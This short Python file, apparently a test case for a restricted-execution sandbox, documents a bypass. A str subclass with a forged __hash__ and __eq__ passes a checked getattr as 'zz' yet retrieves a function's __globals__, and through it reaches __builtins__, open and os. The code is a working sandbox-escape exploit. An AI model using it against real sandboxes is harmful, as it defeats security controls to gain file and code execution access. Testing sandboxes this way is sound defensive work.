# technique: checked getattr validates a str subclass by its text ("zz" passes), but the C attribute lookup (find_name_in_mro/dict probe) uses the subclass's __hash__/__eq__, which impersonate "__globals__": the type dict's __globals__ member descriptor is found and read
# expect: any
import json
H = hash("__globals__")
class Liar(str):
    def __hash__(self):
        return H
    def __eq__(self, other):
        return other == "__globals__"
g = getattr(json.dumps, Liar("zz"))
print(type(g), sorted(g)[:5])
print(g["__builtins__"]["open"], g["__builtins__"]["__import__"]("os"), g["codecs"].sys)
